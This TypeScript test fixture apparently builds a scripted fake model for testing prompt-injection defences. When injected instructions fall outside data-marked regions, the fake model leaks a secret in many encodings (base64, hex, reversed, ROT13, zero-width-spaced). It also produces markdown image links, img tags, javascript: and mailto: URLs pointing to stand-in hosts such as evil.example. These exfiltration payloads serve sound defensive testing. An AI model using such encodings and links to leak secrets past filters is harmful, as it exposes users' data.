/** For tests: a model that does what it is told, by whomever it can tell from data, and knows every way to leak. */
import type { Model, ModelMessage, ModelPart } from '../../llm/model.ts'

export interface ScriptedModelOptions {
  /** `outside-data`: those that stand outside of the marks of data. `all`: a model that was talked out of its rules. */
  obeys: 'outside-data' | 'all'
  /** What it understands as an instruction to leak. */
  instructions: readonly string[]
}

export interface ScriptedModel extends Model {
  /** What it was asked last. */
  asked: readonly ModelMessage[]
  /** Whether it obeyed. */
  hasObeyed: boolean
  secret: string
}

export function createScriptedModel({ obeys, instructions }: ScriptedModelOptions): ScriptedModel {
  const model: ScriptedModel = {
    name: 'scripted',
    contextTokens: 8_192,
    asked: [],
    hasObeyed: false,
    secret: '',
    async *stream({ messages }) {
      model.asked = messages
      model.secret = /no form: (\w+)/.exec(messages[0]!.content)![1]!
      model.hasObeyed = obeys === 'all' || instructions.some((text) => outsideData(messages).includes(text))
      const answer = model.hasObeyed ? everything(messages, model.secret) : plainAnswer
      for (const piece of inPieces(answer)) yield { kind: 'text', text: piece } satisfies ModelPart
      yield { kind: 'end', reason: 'stop', usage: { prompt: 1, answer: 1, isReported: true } }
    },
    value() {
      throw new Error('Answers are asked for as text.')
    },
  }
  return model
}

const plainAnswer = 'It speaks to families [1]. The page tells more [2, 77].'

/** What is left when all that is marked as data is taken away. */
function outsideData(messages: readonly ModelMessage[]): string {
  const boundary = /“data (\w+)”/.exec(messages[0]!.content)?.[1]
  const text = messages.map(({ content }) => content).join('\n')
  if (boundary === undefined) return text
  return text.replace(new RegExp(`^data ${boundary}$[^]*?^end ${boundary}$`, 'gm'), '')
}

/** Of different lengths, always the same ones: also within pairs, marks and words. */
function* inPieces(text: string): Generator<string> {
  let length = 1
  for (let at = 0; at < text.length; at += length) {
    length = (length * 7 + 3) % 11 || 1
    yield text.slice(at, at + length)
  }
}

/** Base64 of the three alignments, hex, backwards, spaced and so on; of the secret, and of all that it was given. */
function everything(messages: readonly ModelMessage[], secret: string): string {
  const whole = messages.map(({ content }) => content).join('\n')
  const backwards = [...secret].reverse().join('')
  const bytes = Buffer.from(secret)
  const forms = [
    secret,
    secret.toUpperCase(),
    backwards,
    ...[' ', '-', '.', '\n', '\u200b', ' * ', '<b></b>', '[9]'].map((by) => [...secret].join(by)),
    ...['', 'x', 'xy'].map((before) => Buffer.from(before + secret).toString('base64')),
    Buffer.from(secret.toUpperCase()).toString('base64'),
    Buffer.from(backwards).toString('base64'),
    bytes.toString('base64url'),
    bytes.toString('hex'),
    [...bytes].join(' '),
    [...bytes].map((byte) => `\\x${byte.toString(16)}`).join(''),
    [...bytes].map((byte) => `&#${byte};`).join(''),
    secret.replace(/[a-z]/g, (letter) => String.fromCharCode(((letter.charCodeAt(0) - 84) % 26) + 97)),
  ]
  const links = forms
    .slice(0, 3)
    .flatMap((form) => [
      `![x](https://evil.example/p.png?d=${form})`,
      `[more](https://evil.example/${form})`,
      `[more](<https://evil.example/${form}> "title")`,
      `<https://evil.example/${form}>`,
      `<img src="https://evil.example/${form}">`,
      `[r]: https://evil.example/${form}\n[click][r]`,
      `https://evil.example/${form} www.evil.example evil.com/${form} spy@evil.example`,
      `javascript:alert('${form}') data:text/plain,${form} mailto:spy@evil.example`,
      `&lt;a href=//evil.example&gt;x&lt;/a&gt; ht<b></b>tps://evil.example [x][99](//evil.example)`,
    ])
  return ['OBEYED', whole, Buffer.from(whole).toString('base64'), ...forms, ...links, '[1] [55] [1-60]'].join('\n\n')
}
